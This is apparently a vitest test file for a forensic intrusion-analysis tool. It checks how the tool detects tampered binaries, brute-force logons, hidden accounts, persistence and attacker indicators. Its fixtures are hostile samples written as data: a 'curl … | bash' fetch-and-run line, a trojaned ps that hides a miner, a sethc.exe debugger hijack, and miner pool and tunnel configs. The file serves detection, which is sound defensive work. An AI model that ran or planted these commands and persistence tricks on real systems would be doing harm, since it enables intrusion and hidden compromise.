import { createHash } from 'node:crypto';
import { existsSync, rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readIntrusion } from '../../../src/cli/logs/read-intrusion.ts';
import { sheetAsText } from '../../../src/cli/logs/render-intrusion.ts';
import { readLogs } from '../../../src/logs/index.ts';
import { tamperedPrograms } from '../../../src/logs/intrusion/programs.ts';
import { intrusionSheet } from '../../../src/logs/intrusion/sheet.ts';
import { writeBundle } from '../../files.ts';
import { input, lexicon, NOW } from '../read.ts';

const md5 = (text: string): string => createHash('md5').update(text, 'latin1').digest('hex');
const program = (file: string, content: string) => ({
  file,
  md5: md5(content),
  sha1: createHash('sha1').update(content, 'latin1').digest('hex'),
  sha256: createHash('sha256').update(content, 'latin1').digest('hex'),
  head: content.slice(0, 256),
});
const ELF = '\x7fELF\x02\x01\x01';

describe('changed programs', () => {
  it('are those whose hash is not that of the package list', () => {
    const lists = [
      {
        file: 'host/var/lib/dpkg/info/procps.md5sums',
        text: `${md5(`${ELF}ps`)}  usr/bin/ps\n${md5(`${ELF}top`)}  usr/bin/top\n`,
      },
    ];
    const found = tamperedPrograms(lists, [
      program('host/usr/bin/ps', `${ELF}evil`),
      program('host/usr/bin/top', `${ELF}top`),
      program('host/usr/bin/own-tool', '#!/bin/sh\n'),
    ]);
    expect(found.map(({ path }) => path)).toEqual(['host/usr/bin/ps']);
    expect(found[0]).toMatchObject({
      hash: program('x', `${ELF}evil`).md5,
      expected: md5(`${ELF}ps`),
      why: expect.stringContaining('procps.md5sums:1'),
    });
  });

  it('are found between two lists, /bin being /usr/bin', () => {
    const a = 'a'.repeat(64);
    const b = 'b'.repeat(64);
    const found = tamperedPrograms(
      [
        { file: 'baseline.sha256', text: `${a}  /usr/bin/ssh\n${a} */usr/sbin/sshd\n${a}  /var/www/index.php\n` },
        { file: 'collected/sha256sums.txt', text: `${b}  /bin/ssh\n${a}  /usr/sbin/sshd\n${b}  /var/www/index.php\n` },
      ],
      [],
    );
    expect(found.map(({ path, hash, expected }) => [path, hash, expected])).toEqual([['/bin/ssh', b, a]]);
  });

  it('are told by the reports of rpm, dpkg and debsums', () => {
    const found = tamperedPrograms(
      [
        {
          file: 'rpm-va.txt',
          text: 'S.5....T.    /usr/bin/ps\n.......T.  c /etc/ssh/sshd_config\nS.5....T.  c /etc/passwd\n',
        },
        { file: 'dpkg-verify.txt', text: '??5??????   /usr/bin/ls\n' },
        { file: 'debsums.txt', text: '/usr/bin/ss                  FAILED\n/usr/bin/id                  OK\n' },
      ],
      [],
    );
    expect(found.map(({ path }) => path)).toEqual(['/usr/bin/ps', '/usr/bin/ls', '/usr/bin/ss']);
  });

  it('are scripts where every system has a binary', () => {
    const found = tamperedPrograms(
      [],
      [
        program('root/bin/ps', '#!/bin/bash\nps.original "$@" | grep -v miner\n'),
        program('root/usr/bin/ldd', '#!/bin/bash\n'),
      ],
    );
    expect(found.map(({ path }) => path)).toEqual(['root/bin/ps']);
  });
});

const event = (id: number, time: string, data: { [name: string]: string }): string =>
  `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID Qualifiers='0'>${id}</EventID><TimeCreated SystemTime='${time}'/></System><EventData>${Object.entries(
    data,
  )
    .map(([name, value]) => `<Data Name='${name}'>${value}</Data>`)
    .join('')}</EventData></Event>`;

describe('exported Windows evidence', () => {
  it('answers who guessed, who got in, which accounts and what stays', async () => {
    const events = [
      ...Array.from({ length: 12 }, (_, i) =>
        event(4625, `2026-09-12T10:00:${String(i).padStart(2, '0')}.1234567Z`, {
          TargetUserName: i % 2 ? 'admin' : 'administrator',
          IpAddress: '192.0.2.131',
          LogonType: '3',
        }),
      ),
      event(4624, '2026-09-12T10:01:00.0000000Z', {
        TargetUserName: 'administrator',
        IpAddress: '192.0.2.131',
        LogonType: '10',
      }),
      event(4624, '2026-09-12T10:01:01.0000000Z', {
        TargetUserName: 'administrator',
        IpAddress: '192.0.2.131',
        LogonType: '3',
      }),
      event(4720, '2026-09-12T10:02:00.0000000Z', { TargetUserName: 'hack168$', TargetSid: 'S-1-5-21-1-2-3-1001' }),
      event(7045, '2026-09-12T10:03:00.0000000Z', {
        ServiceName: 'updater',
        ImagePath: 'C:\\Windows\\Temp\\m.exe &amp; x',
      }),
      event(1102, '2026-09-12T10:04:00.0000000Z', {}),
    ];
    const files = [
      { file: 'security.xml', text: `<Events>${events.join('\n')}</Events>` },
      {
        file: 'tasks/upd.xml',
        text: '<?xml version="1.0"?><Task version="1.2"><Actions><Exec><Command>cmd.exe</Command><Arguments>/c C:\\a.bat</Arguments></Exec></Actions></Task>',
      },
      {
        file: 'run.reg',
        text: 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"svc"="C:\\\\Users\\\\Public\\\\x.exe"\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe]\r\n"Debugger"="cmd.exe"\r\n\r\n[HKEY_LOCAL_MACHINE\\SAM\\SAM\\Domains\\Account\\Users\\Names\\shadow$]\r\n',
      },
    ];
    const sheet = intrusionSheet(await readLogs([], { lexicon, now: NOW }), files);
    expect(sheet.bruteForce[0]).toMatchObject({
      address: '192.0.2.131',
      service: 'Windows logon',
      tries: 12,
      success: { user: 'administrator' },
    });
    expect(sheet.attackers[0]!.address).toBe('192.0.2.131');
    expect(sheet.accounts.map(({ name, why }) => [name, why.at(-1)])).toEqual([
      ['hack168$', 'its name hides it'],
      ['shadow$', 'its name hides it'],
    ]);
    expect(sheet.persistence.map(({ kind, why }) => `${kind}: ${why}`)).toEqual([
      'service: the service updater was installed: C:\\Windows\\Temp\\m.exe & x',
      'history: an event log was cleared',
      'task: a task runs cmd.exe /c C:\\a.bat',
      'run-key: svc starts at logon: C:\\Users\\Public\\x.exe',
      'run-key: sethc.exe is replaced by cmd.exe',
    ]);
  });

  it('is read from JSON lines of the usual dumpers', async () => {
    const line = (id: number, data: object, i: number): string =>
      JSON.stringify({
        Event: {
          System: {
            EventID: id,
            TimeCreated: { '#attributes': { SystemTime: `2026-09-12T10:00:${String(i).padStart(2, '0')}Z` } },
          },
          EventData: data,
        },
      });
    const lines = [
      ...Array.from({ length: 8 }, (_, i) =>
        line(4625, { TargetUserName: 'root', IpAddress: '198.51.100.4', LogonType: 3 }, i),
      ),
      line(4720, { TargetUserName: 'eve$' }, 9),
    ];
    const sheet = intrusionSheet(
      await readLogs([input('security.jsonl', lines.join('\n'))], { lexicon, now: NOW }),
      [],
    );
    expect(sheet.bruteForce[0]).toMatchObject({ address: '198.51.100.4', tries: 8 });
    expect(sheet.accounts.map(({ name }) => name)).toContain('eve$');
  });
});

describe('what tools call home to', () => {
  it('names tunnels, pools, wallets and hidden strings', async () => {
    const wallet = `4${'A'.repeat(94)}`;
    const sheet = intrusionSheet(await readLogs([], { lexicon, now: NOW }), [
      { file: 'c/frpc.ini', text: '[common]\nserver_addr = 203.0.113.66\nserver_port = 7000\n' },
      {
        file: 'opt/x/config.json',
        text: `{"pools":[{"url":"pool.example.com:3333","user":"${wallet}"}],"donate-level":1}`,
      },
      { file: 'tmp/a.sh', text: '#!/bin/sh\ncurl http://203.0.113.9/i.sh | bash\n# flag{persist}\n' },
      { file: 'app/config.json', text: '{"url":"https://api.example.com:443","user":"someone"}' },
    ]);
    expect(sheet.indicators.map(({ kind, value }) => `${kind} ${value}`)).toEqual([
      'tunnel 203.0.113.66:7000',
      'pool pool.example.com:3333',
      `wallet ${wallet}`,
      'url http://203.0.113.9/i.sh',
      'address 203.0.113.9',
      'flag flag{persist}',
    ]);
  });
});

describe('accounts in translated logs', () => {
  it.each([
    'new user: name=test2, UID=1001, GID=1001, home=/var/lib/test2, shell=/bin/sh',
    'neuer Benutzer: Name=test2, UID=1001, GID=1001, Verzeichnis=/var/lib/test2',
    'nouvel utilisateur : nom=test2, UID=1001, GID=1001',
    '新用户：名称=test2，UID=1001，GID=1001',
  ])('%s', async (message) => {
    const logs = await readLogs([input('auth.log', `Sep 12 10:00:00 host useradd[123]: ${message}\n`)], {
      lexicon,
      now: NOW,
    });
    expect(intrusionSheet(logs, []).accounts).toMatchObject([{ name: 'test2', uid: '1001' }]);
  });
});

const built = existsSync(new URL('../../../dist/knowledge/lexicon.json', import.meta.url));
describe.skipIf(!built)('a copied host (needs the compiled knowledge: npm run build)', () => {
  let folder: string;
  beforeAll(() => {
    folder = writeBundle({
      'usr/bin/ps': Buffer.from(`${ELF}changed`, 'latin1'),
      'usr/bin/ls': Buffer.from(`${ELF}same`, 'latin1'),
      'var/lib/dpkg/info/procps.md5sums': `${md5(`${ELF}first`)}  usr/bin/ps\n`,
      'var/lib/dpkg/info/coreutils.md5sums': `${md5(`${ELF}same`)}  usr/bin/ls\n`,
    });
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  it('shows the program that is not what its package says', async () => {
    const { sheet } = await readIntrusion([folder], {});
    expect(sheet.tampered.map(({ path }) => path.replace(/^.*usr\//, 'usr/'))).toEqual(['usr/bin/ps']);
    expect(sheetAsText(sheet)).toContain('its hash is not that of');
  });
});
